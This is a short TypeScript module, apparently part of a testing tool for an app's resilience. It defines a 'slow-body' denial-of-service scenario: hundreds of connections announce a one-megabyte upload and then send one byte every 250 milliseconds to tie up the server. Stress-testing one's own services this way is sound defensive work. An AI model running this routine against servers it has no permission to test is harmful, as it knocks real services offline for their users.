import type { Attack } from '../scene.js'
import { leave, visitors } from '../visitor.js'

const BYTE_EVERY_MS = 250

/** Uploads that hardly move. They are requests like any other as long as the app waits for them. */
export const slowBody: Attack = {
  name: 'slow-body',
  title: 'uploads of a byte now and then',
  count: { full: 500, quick: 100 },
  async run({ port, victim, hold }, count) {
    const all = visitors(count, port)
    for (const visitor of all)
      visitor.send(`POST /upload HTTP/1.1\r\nHost: ${victim}\r\nContent-Length: 1000000\r\n\r\n`)
    const timer = setInterval(() => {
      for (const visitor of all) if (!visitor.over) visitor.send('x')
    }, BYTE_EVERY_MS)
    await hold()
    clearInterval(timer)
    return leave(all)
  },
}
